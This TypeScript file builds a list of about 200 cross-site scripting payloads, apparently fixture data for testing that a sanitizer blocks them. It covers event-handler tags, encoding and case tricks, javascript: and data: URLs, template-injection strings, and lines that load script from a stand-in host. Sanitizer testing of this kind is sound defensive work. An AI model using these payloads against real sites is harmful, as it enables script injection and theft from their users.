// Two hundred ways to make text run as code. Every one that runs calls `pwned()`; none may.
const CALL = 'pwned()';
const ENCODED = Array.from(CALL, (letter) => `&#${String(letter.charCodeAt(0))};`).join('');
const FOREIGN = 'https://elsewhere.example';

/** Elements that run something by themselves once they are in the page, with the event that does it. */
const BY_THEMSELVES: readonly (readonly [element: string, event: string])[] = [
  ['img src=x', 'onerror'],
  ['img src=x loading=eager', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe src=about:blank', 'onload'],
  ['object data=about:blank', 'onload'],
  ['embed src=about:blank', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['script src=data:,', 'onload'],
  ['link rel=stylesheet href=data:,', 'onload'],
  ['style', 'onload'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['div style="animation:x"', 'onanimationstart'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onbegin'],
  ['input type=image src=x', 'onerror'],
  ['track src=x default', 'onerror'],
  ['frameset', 'onload'],
];

/** How a handler may be written so that a filter does not see it. */
const WRITTEN: readonly ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} ${event}=${CALL}>`,
  (element, event) => `"><${element} ${event}="${CALL}">`,
  (element, event) => `'><${element.toUpperCase()} ${event.toUpperCase()}='${ENCODED}'>`,
  (element, event) => `<${element.replaceAll(' ', '/')}/${event}\n=\n${CALL}//`,
];

const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript://elsewhere.example/%0a${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,${btoa(`<script>${CALL}</script>`)}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
  `blob:https://elsewhere.example/1`,
  `file:///etc/passwd`,
  `https://a:b@elsewhere.example/`,
  `${FOREIGN}/" onmouseover="${CALL}`,
  `//elsewhere.example/x`,
];

const LINKS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">press</a>`,
  (address) => `[press](${address})`,
];

const OTHERS = [
  `<script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `<script src=${FOREIGN}/x.js></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<svg><script>${CALL}</script></svg>`,
  `<math><mtext><script>${CALL}</script></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
  `<title></title><img src=x onerror=${CALL}>`,
  `</textarea><img src=x onerror=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}/">`,
  `<base href=${FOREIGN}/>`,
  `<form action=${FOREIGN}/><button autofocus>send</button></form>`,
  `<img src=${FOREIGN}/pixel.png>`,
  `<link rel=stylesheet href=${FOREIGN}/x.css>`,
  `<link rel=prefetch href=${FOREIGN}/x>`,
  `<style>@import url(${FOREIGN}/x.css);</style>`,
  `<div style="background:url(${FOREIGN}/x.png)">`,
  `<object data=${FOREIGN}/x.swf></object>`,
  `<video poster=${FOREIGN}/x.png>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`,
  `<svg><image href=${FOREIGN}/x.png /></svg>`,
  `<svg><a href="javascript:${CALL}"><text>press</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL} /></foreignObject></svg>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `{@html '<img src=x onerror=${CALL}>'}`,
  `<%= ${CALL} %>`,
  `"-${CALL}-"`,
  `';${CALL};//`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `%3Cimg%20src=x%20onerror=${CALL}%3E`,
  `+ADw-img src=x onerror=${CALL}+AD4-`,
  `![x](${FOREIGN}/pixel.png)`,
  `![x](javascript:${CALL})`,
  `<javascript:${CALL}>`,
  `[x]: javascript:${CALL}\n[x]`,
  `[<img src=x onerror=${CALL}>](${FOREIGN}/)`,
  `\`\`\`html\n<img src=x onerror=${CALL}>\n\`\`\``,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${CALL}>">]>&y;`,
  `<xss contenteditable autofocus onfocus=${CALL}>`,
  `<img src=x onerror=eval(atob('${btoa(CALL)}'))>`,
  `<img src=x onerror=import('${FOREIGN}/x.js')>`,
  `<portal src=${FOREIGN}/>`,
  `\u202e<img src=x onerror=${CALL}>`,
  `<\u0000img src=x onerror=${CALL}>`,
];

const HOW_MANY = 200;
const all = [
  ...OTHERS,
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
  ...WRITTEN.flatMap((write) => BY_THEMSELVES.map(([element, event]) => write(element, event))),
];

/** All different. */
export const PAYLOADS: readonly string[] = [...new Set(all)].slice(0, HOW_MANY);
/** For members that hold an address. */
export const BAD_ADDRESSES: readonly string[] = ADDRESSES;
